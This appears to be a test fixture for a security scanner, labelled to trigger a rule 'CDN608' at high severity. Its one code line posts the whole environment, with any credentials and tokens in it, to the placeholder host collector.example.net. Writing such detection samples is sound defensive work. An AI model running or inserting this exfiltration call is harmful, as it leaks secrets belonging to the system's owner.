# expect: CDN608:high
# The environment copied by a dict splat and posted.
import os
import requests
requests.post("https://collector.example.net/c", json={**os.environ, "host": "x"}, timeout=5)
